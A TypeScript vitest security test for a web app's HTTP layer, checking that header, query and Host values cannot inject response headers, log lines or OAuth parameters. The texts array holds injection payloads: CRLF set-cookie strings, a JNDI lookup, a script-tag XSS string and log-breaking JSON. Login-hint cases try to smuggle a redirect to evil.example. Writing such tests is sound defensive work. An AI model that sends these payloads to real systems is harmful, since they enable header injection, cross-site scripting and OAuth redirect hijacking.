import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isBackendRoute } from '../../lambdas/http/backend-route.ts';
import type { Browser } from '../support/browser.ts';
import { describedRoutes } from '../support/described-routes.ts';
import { splitRoute } from '../support/route-lists.ts';
import { type Site, startSite } from '../support/site.ts';
import { sendWire, signerOf, type WireAnswer, type WireRequest } from '../support/wire.ts';

/** Stands in every attack, so that whatever takes it over gives itself away. */
const mark = 'evilmark';

/** Texts that end a line, a string, a tag or a lookup where somebody is careless. */
const texts = [
  `x\r\nset-cookie: ${mark}=1\r\nx-${mark}: 1`,
  `x\n${mark}\n`,
  `x\r${mark}`,
  `x\u0000${mark}`,
  `x\u2028${mark}\u2029\u0085`,
  `\${jndi:ldap://${mark}.example/a}`,
  `x"},{"event":"request","${mark}":"`,
  `'"><script>${mark}()</script>`,
  `\u001b[31m${mark}\u0008`,
  `\u202e${mark}\ufeff`,
  `%0d%0aset-cookie:%20${mark}=1`,
  `http://${mark}.example/`,
  `${mark}\ud83d\udca9`,
];

let site: Site;
let browser: Browser;

beforeAll(async () => {
  site = await startSite({
    demoMessages: 3,
    allowedReturnOrigins: 'https://app.example.com',
    accessTokens: 'on',
  });
  browser = await site.connected();
});
afterAll(() => site.close());

/** What is to be found nowhere: line ends are no part of a header, and the mark of no line of the log. */
function expectTakenOverNowhere({ status, headers }: WireAnswer, logged: number): void {
  expect(status).toBeLessThan(500);
  for (const [name, value] of Object.entries(headers)) {
    const lines = [value ?? ''].flat().join(' ');
    expect(`${name}: ${lines}`).toMatch(/^[\x20-\x7e]*$/);
    expect(name).not.toContain(mark);
    // A redirect may carry it on, in percent code, to where it belongs.
    if (name !== 'location') expect(lines).not.toContain(mark);
  }
  expect(site.logs.slice(logged).filter((line) => JSON.stringify(line).includes(mark))).toEqual([]);
}

async function send(route: string, request: Omit<WireRequest, 'target'>, query = ''): Promise<WireAnswer> {
  const { method, path } = splitRoute(route, { accountId: 'nobody', id: '18c' });
  const target = query === '' ? path : `${path}?${query}`;
  const cookie = ['cookie', `session=${browser.cookie('localhost', 'session')}`] as const;
  return sendWire(site, { method, target, ...request, headers: [cookie, ...(request.headers ?? [])] });
}

describe('a text that ends lines, strings or tags is taken over by no header and no log', () => {
  const withQuery = describedRoutes().filter(({ parameters }) => parameters.length > 0);

  it.each(withQuery.map(({ route, parameters }) => [route, parameters] as const))(
    'from the query of %s',
    async (route, parameters) => {
      for (const parameter of parameters) {
        for (const text of texts) {
          const logged = site.logs.length;
          if (isBackendRoute(route)) {
            const { method, path } = splitRoute(route, { accountId: 'nobody', id: '18c' });
            const signed = await signerOf(site).sign({ method, path, query: { [parameter]: text } });
            expectTakenOverNowhere(await sendWire(site, signed), logged);
          } else {
            for (const accept of ['*/*', 'text/html']) {
              const query = `${parameter}=${encodeURIComponent(text)}`;
              const answer = await send(
                route,
                {
                  headers: [
                    ['accept', accept],
                    ['sec-fetch-site', 'same-origin'],
                  ],
                },
                query,
              );
              expectTakenOverNowhere(answer, logged);
              if (accept === 'text/html') expect(answer.text).not.toContain('<script>');
            }
          }
        }
      }
    },
  );

  const readers = describedRoutes().filter(({ route }) => route.startsWith('GET ') && !isBackendRoute(route));

  it.each(readers.map(({ route }) => route))('from the headers of %s', async (route) => {
    const names = [
      ...['user-agent', 'referer', 'x-forwarded-for', 'x-forwarded-host', 'x-forwarded-proto', 'forwarded'],
      ...[
        'x-amzn-trace-id',
        'x-request-id',
        'x-original-url',
        'x-rewrite-url',
        'x-http-method-override',
        'via',
      ],
      ...['accept-language', 'accept-encoding', 'if-none-match', 'authorization', 'range'],
    ];
    // What HTTP lets through: a client that sends line ends within a header is cut off by the gateway.
    const sent = texts.filter((text) => /^[\x20-\x7e]*$/.test(text));
    expect(sent.length).toBeGreaterThan(4);
    for (const text of sent) {
      const logged = site.logs.length;
      const headers = names.map(
        (name) => [name, name === 'authorization' ? `Bearer ${text}` : text] as const,
      );
      const answer = await send(route, { headers });
      expectTakenOverNowhere(answer, logged);
      expect(String(answer.headers['location'] ?? '')).not.toContain(mark);
      expect(answer.text).not.toContain(mark);
    }
  });

  it.each(['/messages', '/auth/login', '/', '/docs'])(
    'from Host: %s still leads to this site alone',
    async (target) => {
      const headers = [
        ['host', `${mark}.example`],
        ['accept', 'text/html'],
        ['x-forwarded-host', `${mark}.example`],
      ] as const;
      const answer = await sendWire(site, { target, headers });
      expect(String(answer.headers['location'] ?? '') + answer.text).not.toContain(mark);
      if (target === '/messages') expect(answer.headers['location']).toMatch(`${site.origin}/auth/login`);
    },
  );
});

describe('a login hint', () => {
  const ask = async (hint: string) => {
    const answer = await send(
      'GET /auth/url',
      { headers: [['sec-fetch-site', 'same-origin']] },
      `login_hint=${encodeURIComponent(hint)}`,
    );
    return String(JSON.parse(answer.text).authorizationUrl);
  };

  it.each([
    ...texts.filter((text) => !text.includes('\ud83d')),
    `${mark}&redirect_uri=https://evil.example&scope=x#y`,
    `${mark}&prompt=none&client_id=1;state=2`,
    `${mark}\ud83d\udca9`,
  ])('is one parameter of Google’s address, and nothing else of it: %j', async (hint) => {
    const address = await ask(hint);
    expect(address).toMatch(/^[A-Za-z0-9%:/?=&._*+-]+$/);
    const [given, plain] = [new URL(address), new URL(await ask('someone@example.com'))];
    expect([given.origin, given.pathname, given.hash]).toEqual([plain.origin, plain.pathname, '']);
    expect([...given.searchParams.keys()]).toEqual([...plain.searchParams.keys()]);
    expect(given.searchParams.get('login_hint')).toBe(hint);
    for (const name of [
      'client_id',
      'redirect_uri',
      'response_type',
      'scope',
      'access_type',
      'prompt',
      'code_challenge_method',
    ]) {
      expect(given.searchParams.getAll(name)).toEqual(plain.searchParams.getAll(name));
    }
  });
});
